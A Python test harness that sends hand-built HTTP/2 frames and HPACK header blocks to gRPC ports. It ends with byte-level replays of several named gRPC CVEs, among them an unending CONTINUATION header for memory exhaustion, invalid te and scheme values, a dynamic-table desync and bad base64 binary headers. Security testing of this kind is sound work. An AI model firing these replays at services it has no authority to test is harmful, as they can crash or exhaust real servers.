"""Builds HTTP/2 frames and header blocks as bytes, also wrong ones, for tests of gRPC ports. Standard library only."""

import socket
import ssl
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytes([first | limit]), value - limit
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def text(value):
    value = value.encode() if isinstance(value, str) else value
    return number(len(value), 7) + value


def field(name, value, indexed=False):
    """A literal header field with a new name; `indexed` puts it into the dynamic table."""
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(path, extra=(), scheme="http", te="trailers"):
    """A header block of a gRPC call, with more fields."""
    fields = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "h"),
              ("content-type", "application/grpc"), ("te", te), *extra]
    return b"".join(field(name, value) for name, value in fields)


def headers(stream, block, end_stream=False):
    """HEADERS, and CONTINUATION frames if the block is long."""
    parts = [block[at:at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)] or [b""]
    out = b""
    for i, part in enumerate(parts):
        flags = (END_HEADERS if i == len(parts) - 1 else 0) | (END_STREAM if end_stream and i == 0 else 0)
        out += frame(HEADERS if i == 0 else CONTINUATION, flags, stream, part)
    return out


def message(payload=b""):
    """An uncompressed gRPC message."""
    return b"\0" + struct.pack(">I", len(payload)) + payload


class Connection:
    """An HTTP/2 connection that sends bytes as they are. `context`: an ssl.SSLContext; None: no TLS."""

    def __init__(self, address, context=None, timeout_s=20):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout_s)
        if context is not None:
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname=host)
        self.unread = b""

    def open(self):
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        return self

    def send(self, data):
        """Returns False if the server has closed the connection."""
        try:
            self.socket.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            return False

    def frames(self, seconds):
        """Returns the frames [(kind, flags, stream, payload)] that come within this time, or until the connection ends."""
        end, out = time.monotonic() + seconds, []
        while (left := end - time.monotonic()) > 0:
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65536)
            except (OSError, ssl.SSLError):
                break
            if not data:
                break
            self.unread += data
            while len(self.unread) >= 9 and len(self.unread) >= 9 + (size := int.from_bytes(self.unread[:3], "big")):
                head, payload = self.unread[:9], self.unread[9:9 + size]
                self.unread = self.unread[9 + size:]
                out.append((head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload))
        return out

    def answer(self, kinds=(HEADERS, RST_STREAM, GOAWAY), seconds=10):
        """Returns the name of the first frame of these kinds, or "closed" or "nothing"."""
        names = {HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", GOAWAY: "GOAWAY", PING: "PING"}
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for kind, _, _, _ in self.frames(0.3):
                if kind in kinds:
                    return names[kind]
            if self.is_closed():
                return "closed"
        return "nothing"

    def is_closed(self):
        try:
            self.socket.settimeout(0.01)
            data = self.socket.recv(65536)
            self.unread += data
            return not data
        except (TimeoutError, ssl.SSLWantReadError):
            return False
        except (OSError, ssl.SSLError):
            return True

    def close(self):
        self.socket.close()


# ---- the frames of known faults ---------------------------------------------------------------------------------------------


def endless_header(mebibytes):
    """CVE-2023-33953: a header that does not end, in CONTINUATION frames. Yields pieces."""
    start = request("/grpc.health.v1.Health/Check") + b"\x00" + text("x") + number(mebibytes << 21, 7)
    yield frame(HEADERS, 0, 1, start)
    piece = frame(CONTINUATION, 0, 1, b"v" * MAX_FRAME)
    for _ in range((mebibytes << 20) // MAX_FRAME):
        yield piece


def wrong_te():
    """CVE-2023-1428: a value of te that is not "trailers"."""
    yield headers(1, request("/grpc.health.v1.Health/Check", te="x"), end_stream=False)
    yield frame(DATA, END_STREAM, 1, message())


def wrong_scheme():
    """CVE-2023-1428: a scheme that is neither http nor https."""
    yield headers(1, request("/grpc.health.v1.Health/Check", scheme="x"), end_stream=False)
    yield frame(DATA, END_STREAM, 1, message())


def skipped_table_updates():
    """CVE-2023-32731: headers beyond the size limit that also add an entry to the dynamic table, then a use of that entry."""
    large = b"".join(field(f"large-{i}", "v" * 4000) for i in range(8))
    yield headers(1, request("/grpc.health.v1.Health/Check", ()) + large + field("later", "entry", indexed=True), end_stream=True)
    yield headers(3, request("/grpc.health.v1.Health/Check") + b"\xbe", end_stream=False)  # entry 62, the newest
    yield frame(DATA, END_STREAM, 3, message())


def wrong_base64():
    """CVE-2023-32732: a binary header whose value is not base64."""
    yield headers(1, request("/grpc.health.v1.Health/Check", [("x-bin", "!!!")]), end_stream=False)
    yield frame(DATA, END_STREAM, 1, message())


REPLAYS = {"CVE-2023-33953": lambda: endless_header(2), "CVE-2023-1428 te": wrong_te, "CVE-2023-1428 scheme": wrong_scheme,
           "CVE-2023-32731": skipped_table_updates, "CVE-2023-32732": wrong_base64}
